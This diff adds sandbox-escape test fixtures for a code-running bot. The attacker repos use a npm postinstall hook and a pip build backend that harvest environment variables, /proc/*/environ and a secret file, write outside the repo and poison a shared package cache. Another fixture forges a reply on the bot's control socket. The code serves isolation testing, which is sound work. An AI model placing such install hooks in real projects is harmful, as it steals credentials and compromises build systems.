@@ -358,3 +358,144 @@ export function pyForgedTrace(victim: string): RepoSpec {
     },
   };
 }
+
+/**
+ * Two repositories with the same package.json and package-lock.json (no dependencies): the
+ * attacker's root postinstall plants a package in node_modules (with what it could read:
+ * the environment, /proc/*\/environ, the bot's data dir) and tries writes outside; the
+ * victim's own plant.cjs is empty, and a test of its fails if the planted package is there.
+ */
+export function jsCachePoison(role: "attacker" | "victim"): RepoSpec {
+  const attacker = [
+    'const fs = require("node:fs");',
+    'const path = require("node:path");',
+    'const conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));',
+    "const tryRead = (p) => { try { return fs.readFileSync(p, \"latin1\"); } catch (e) { return `UNREADABLE ${e.code}`; } };",
+    "const environ = {};",
+    'for (const pid of fs.readdirSync("/proc").filter((n) => /^\\d+$/.test(n))) environ[pid] = tryRead(`/proc/${pid}/environ`);',
+    "const writes = {};",
+    "for (const p of [path.join(conf.sentinel, \"victim.txt\"), path.join(conf.data_dir, \"rt-secret.txt\"), path.join(conf.loot, \"install-loot.txt\")]) { try { fs.appendFileSync(p, \"planted by an install script\\n\"); writes[p] = \"WROTE\"; } catch (e) { writes[p] = e.code; } }",
+    'const dir = path.join(__dirname, "node_modules", "rt-planted");',
+    "fs.mkdirSync(dir, { recursive: true });",
+    'fs.writeFileSync(path.join(dir, "index.js"), "module.exports = \\"planted by the attacker\\";\\n");',
+    'fs.writeFileSync(path.join(dir, "stolen.json"), JSON.stringify({ env: process.env, environ, data_dir: tryRead(path.join(conf.data_dir, "rt-secret.txt")), writes }));',
+    "",
+  ].join("\n");
+  const probe = 'const test = require("node:test");\nconst assert = require("node:assert");\nconst fs = require("node:fs");\nconst path = require("node:path");\n\ntest("no planted package", () => {\n  const p = path.join(__dirname, "..", "node_modules", "rt-planted", "index.js");\n  assert.ok(!fs.existsSync(p), `PLANTED-FROM-CACHE ${fs.existsSync(p) ? fs.readFileSync(p, "utf8").trim() : ""}`);\n});\n';
+  return {
+    source: "calc.js",
+    files: {
+      ...JS_BUG,
+      "package.json": '{ "name": "rt-shared", "version": "1.0.0", "private": true, "scripts": { "test": "node --test", "postinstall": "node plant.cjs" } }\n',
+      "package-lock.json": '{ "name": "rt-shared", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": { "": { "name": "rt-shared", "version": "1.0.0" } } }\n',
+      "plant.cjs": role === "attacker" ? attacker : "// nothing to do\n",
+      "test/probe.test.js": probe,
+    },
+  };
+}
+
+/**
+ * Python, for the warm runner: in a warm fork (AUTOGEN_WARM_SOCKET set) the failing test
+ * looks for other slots' control directories, connects to the bot's socket a second time
+ * and sends a forged answer, then starts a detached process whose command line carries
+ * the tag and what it found (the host reads it while the bot runs).
+ */
+export function pyWarmProbe(tag: string): RepoSpec {
+  const probe = [
+    "import os",
+    "import socket",
+    "import subprocess",
+    "",
+    "",
+    "def probe():",
+    '    path = os.environ.get("AUTOGEN_WARM_SOCKET")',
+    "    if not path:",
+    "        return",
+    "    ctl = os.path.dirname(path)",
+    '    others = [n for n in os.listdir("/tmp") if n.startswith("autogen-warm-") and os.path.join("/tmp", n) != ctl] if os.path.isdir("/tmp") else []',
+    "    try:",
+    "        s = socket.socket(socket.AF_UNIX)",
+    "        s.settimeout(2)",
+    "        s.connect(path)",
+    '        s.sendall(b\'{"status": "ran", "exit": 0, "signal": null, "ms": 1}\\n\')',
+    "        try:",
+    '            second = "connected-read-" + ("closed" if s.recv(16) == b"" else "open")',
+    "        except socket.timeout:",
+    '            second = "connected-open"',
+    "    except OSError as e:",
+    '        second = "refused-" + type(e).__name__',
+    '    subprocess.Popen(["python3", "-c", "import time; time.sleep(600)", ' + "TAG" + ', "others=%d" % len(others), "second=" + second], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
+    "",
+  ].join("\n").replace("TAG", JSON.stringify(tag));
+  return {
+    source: "calc.py",
+    files: {
+      ...PY_BUG,
+      "tests/warm_probe.py": probe,
+      "tests/test_calc.py": "from calc import add\nfrom tests.warm_probe import probe\n\n\ndef test_add():\n    probe()\n    assert add(2, 3) == 5\n\n\ndef test_add_zero():\n    assert add(4, 0) == 4\n",
+    },
+  };
+}
+
+/**
+ * The pip form of jsCachePoison: requirements.txt names a local package built by an
+ * in-tree build backend (no download needed offline). The attacker's backend steals,
+ * writes outside and builds a planted package; the victim's builds a clean one, and a test
+ * of the victim's fails if the package it imports is the attacker's.
+ */
+export function pyCachePoison(role: "attacker" | "victim"): RepoSpec {
+  const hostile = [
+    "    import json",
+    "    conf = json.load(open(os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), 'rtconf.json')))",
+    "    def read(p):",
+    "        try:",
+    "            return open(p, 'rb').read().decode('latin1')",
+    "        except OSError as e:",
+    "            return 'UNREADABLE ' + type(e).__name__",
+    "    environ = {pid: read('/proc/%s/environ' % pid) for pid in os.listdir('/proc') if pid.isdigit()}",
+    "    writes = {}",
+    "    for p in [os.path.join(conf['sentinel'], 'victim.txt'), os.path.join(conf['data_dir'], 'rt-secret.txt'), os.path.join(conf['loot'], 'pip-loot.txt')]:",
+    "        try:",
+    "            open(p, 'a').write('planted by a build backend\\n')",
+    "            writes[p] = 'WROTE'",
+    "        except OSError as e:",
+    "            writes[p] = type(e).__name__",
+    "    stolen = json.dumps({'env': dict(os.environ), 'environ': environ, 'data_dir': read(os.path.join(conf['data_dir'], 'rt-secret.txt')), 'writes': writes}).encode()",
+    "    files['rtpkg/stolen.json'] = stolen",
+  ].join("\n");
+  const backend = [
+    "import base64",
+    "import hashlib",
+    "import os",
+    "import zipfile",
+    "",
+    "",
+    "def get_requires_for_build_wheel(config_settings=None):",
+    "    return []",
+    "",
+    "",
+    "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):",
+    `    files = {"rtpkg/__init__.py": ${role === "attacker" ? "b\"PLANTED = 'planted by the attacker'\\n\"" : 'b"PLANTED = None\\n"'}}`,
+    ...(role === "attacker" ? [hostile] : []),
+    '    files["rtpkg-1.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\\nName: rtpkg\\nVersion: 1.0\\n"',
+    '    files["rtpkg-1.0.dist-info/WHEEL"] = b"Wheel-Version: 1.0\\nGenerator: rt\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"',
+    "    record = [f\"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}\" for p, d in files.items()]",
+    '    name = "rtpkg-1.0-py3-none-any.whl"',
+    '    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:',
+    "        for path, data in files.items():",
+    "            z.writestr(path, data)",
+    '        z.writestr("rtpkg-1.0.dist-info/RECORD", "\\n".join(record + ["rtpkg-1.0.dist-info/RECORD,,"]) + "\\n")',
+    "    return name",
+    "",
+  ].join("\n");
+  return {
+    source: "calc.py",
+    files: {
+      ...PY_BUG,
+      "requirements.txt": "./vendor/rtpkg\n",
+      "vendor/rtpkg/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+      "vendor/rtpkg/backend.py": backend,
+      "tests/test_probe.py": "import rtpkg\n\n\ndef test_no_planted_package():\n    assert rtpkg.PLANTED is None, 'PLANTED-FROM-CACHE %s' % rtpkg.PLANTED\n",
+    },
+  };
+}
